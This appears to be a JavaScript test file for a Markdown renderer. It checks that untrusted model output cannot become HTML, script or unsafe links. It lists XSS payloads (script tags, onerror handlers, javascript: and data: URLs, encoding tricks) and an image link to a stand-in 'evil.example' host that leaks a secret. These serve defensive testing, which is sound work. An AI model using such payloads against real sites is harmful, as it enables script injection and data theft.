// markdown.js: model output can never become markup, script or an unsafe link.

import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parseHTML } from 'linkedom';
import { BlockRenderer } from '../../src/tokenrelay/web/lib/blocks.js';
import {
  ALLOWED_ATTRS,
  ALLOWED_TAGS,
  isSafeHref,
  renderTokens,
} from '../../src/tokenrelay/web/lib/markdown_nodes.js';
import { buildNodes } from '../../src/tokenrelay/web/lib/view.js';
import { makeMarkdown } from './helpers.js';

const md = makeMarkdown();

/** Render `text` the way the page does (streamed a character at a time) into a light DOM. */
function renderToDOM(text) {
  const { document } = parseHTML('<html><body><div id="r"></div></body></html>');
  const container = document.getElementById('r');
  const renderer = new BlockRenderer(md);
  const put = ({ closed }) => {
    for (const node of buildNodes(document, closed)) container.appendChild(node);
  };
  for (const ch of text) {
    renderer.push(ch);
    put(renderer.update());
  }
  put(renderer.finish());
  return container;
}

function nodes(text) {
  return renderTokens(md.parse(text, {}));
}

function html(text) {
  return renderToDOM(text).innerHTML;
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body{display:none}</style>',
  '<svg onload=alert(1)>',
  'inline <b onclick="alert(1)">bold</b> html',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x]( javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/png;base64,iVBORw0KGgo=)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a.b/uuid)',
  '<javascript:alert(1)>',
  '<vbscript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/leak?q=secret)',
  '[x](https://a.b "title\\" onmouseover=\\"alert(1)")',
  '```html onload=alert(1)\n<script>alert(1)</script>\n```',
  '```<img/src/onerror=alert(1)>\ncode\n```',
  '| a |\n|:-:|\n| <img src=x onerror=alert(1)> |',
  '<!-- comment --> &lt;not a tag&gt; &#x3C;script&#x3E;',
];

describe('untrusted Markdown', () => {
  test('raw HTML is shown as text, never as elements', () => {
    const container = renderToDOM(
      'Hi <script>alert(1)</script> and <b>bold</b>\n\n<div onclick="x">block</div>',
    );
    assert.equal(container.querySelectorAll('script, b, div').length, 0);
    assert.match(container.textContent, /<script>alert\(1\)<\/script>/);
    assert.match(container.textContent, /<div onclick="x">block<\/div>/);
  });

  test('no attack produces a disallowed element, attribute or link', () => {
    for (const attack of ATTACKS) {
      const container = renderToDOM(attack);
      for (const el of container.querySelectorAll('*')) {
        assert.ok(ALLOWED_TAGS.has(el.localName), `${attack}: <${el.localName}>`);
        for (const { name, value } of el.attributes) {
          assert.ok(ALLOWED_ATTRS.has(name), `${attack}: ${name}=`);
          if (name === 'href') {
            const protocol = new URL(value, 'https://page.invalid/').protocol;
            assert.ok(['http:', 'https:', 'mailto:'].includes(protocol), `${attack}: href=${value}`);
          }
          if (name === 'class')
            assert.match(value, /^(language-[A-Za-z0-9_+#.-]+|align-(left|center|right)|image-link)$/);
        }
      }
    }
  });

  test('an unsafe link keeps its text and loses the link', () => {
    assert.equal(html('[click](javascript:alert(1))'), '<p>[click](javascript:alert(1))</p>');
    assert.equal(html('<javascript:alert(1)>'), '<p>&lt;javascript:alert(1)&gt;</p>');
  });

  test('the renderer checks hrefs again, even if markdown-it let one through', () => {
    const permissive = makeMarkdown();
    permissive.validateLink = () => true;
    const tokens = permissive.parse('[click](javascript:alert(1)) ![i](vbscript:x)', {});
    assert.deepEqual(renderTokens(tokens), [{ tag: 'p', attrs: null, children: ['click i'] }]);
  });

  test('safe links: http, https, mailto and relative; they open in a new tab', () => {
    const link = (href, text, extra = {}) => [
      {
        tag: 'p',
        attrs: null,
        children: [
          {
            tag: 'a',
            attrs: { href, rel: 'noopener noreferrer nofollow', target: '_blank', ...extra },
            children: [text],
          },
        ],
      },
    ];
    assert.deepEqual(
      nodes('[a](https://x.y/p?q=1&r=2 "T")'),
      link('https://x.y/p?q=1&r=2', 'a', { title: 'T' }),
    );
    assert.deepEqual(nodes('<mailto:me@x.y>'), link('mailto:me@x.y', 'mailto:me@x.y'));
    assert.deepEqual(nodes('[d](/docs#top)'), link('/docs#top', 'd'));
  });

  test('images become links to their source, never <img>', () => {
    assert.deepEqual(nodes('![a cup](https://x.y/cup.png)'), [
      {
        tag: 'p',
        attrs: null,
        children: [
          {
            tag: 'a',
            attrs: {
              href: 'https://x.y/cup.png',
              rel: 'noopener noreferrer nofollow',
              target: '_blank',
              class: 'image-link',
            },
            children: ['a cup'],
          },
        ],
      },
    ]);
    assert.equal(html('![a cup](javascript:x)'), '<p>![a cup](javascript:x)</p>');
  });

  test('table alignment is a class (the CSP forbids inline styles)', () => {
    const table = renderToDOM('| l | c | r |\n|:--|:-:|--:|\n| 1 | 2 | 3 |').querySelector('table');
    assert.deepEqual(
      Array.from(table.querySelectorAll('th'), (th) => th.getAttribute('class')),
      ['align-left', 'align-center', 'align-right'],
    );
    assert.equal(table.querySelectorAll('[style]').length, 0);
  });

  test('code: the language class comes only from a clean info word; the content is text', () => {
    assert.equal(
      html('```js\nlet a = "<b>";\n```'),
      '<pre><code class="language-js">let a = "&lt;b&gt;";\n</code></pre>',
    );
    assert.equal(html('```"><script>\nx\n```'), '<pre><code>x\n</code></pre>');
    assert.equal(html('`a <i>b</i>`'), '<p><code>a &lt;i&gt;b&lt;/i&gt;</code></p>');
  });

  test('lists: tight items hold no <p>, ordered lists keep their start', () => {
    assert.equal(html('3. a\n4. b'), '<ol start="3"><li>a</li><li>b</li></ol>');
    assert.equal(html('- a\n\n- b'), '<ul><li><p>a</p></li><li><p>b</p></li></ul>');
  });

  test('reference definitions are not links (a later one could change a closed block)', () => {
    assert.equal(html('[a]\n\n[a]: https://x.y'), '<p>[a]</p><p>[a]: https://x.y</p>');
  });

  test('unknown token types render their text only', () => {
    const tokens = [
      { type: 'widget_open', tag: 'iframe', nesting: 1, level: 0, attrGet: () => null },
      { type: 'widget_body', tag: '', nesting: 0, level: 1, content: '<x>' },
      { type: 'widget_close', tag: 'iframe', nesting: -1, level: 0 },
    ];
    assert.deepEqual(renderTokens(tokens), [{ tag: 'p', attrs: null, children: ['<x>'] }]);
  });
});

describe('isSafeHref', () => {
  const cases = [
    ['https://a.b/c', true],
    ['http://a.b', true],
    ['mailto:x@y.z', true],
    ['/rel', true],
    ['rel/x', true],
    ['#frag', true],
    ['?q=1', true],
    ['//host.example/p', true],
    ['javascript:alert(1)', false],
    ['JAVASCRIPT:alert(1)', false],
    [' javascript:x', false],
    ['java\tscript:x', false],
    ['java\nscript:x', false],
    ['\u0000javascript:x', false],
    ['vbscript:x', false],
    ['data:text/html,x', false],
    ['data:image/png;base64,AA', false],
    ['file:///etc/passwd', false],
    ['blob:https://a.b/x', false],
    ['ftp://a.b', false],
    ['tel:123', false],
    ['', false],
    [null, false],
    ['http://[bad', false],
  ];
  for (const [href, safe] of cases) {
    test(`${JSON.stringify(href)} -> ${safe}`, () => assert.equal(isSafeHref(href), safe));
  }
});
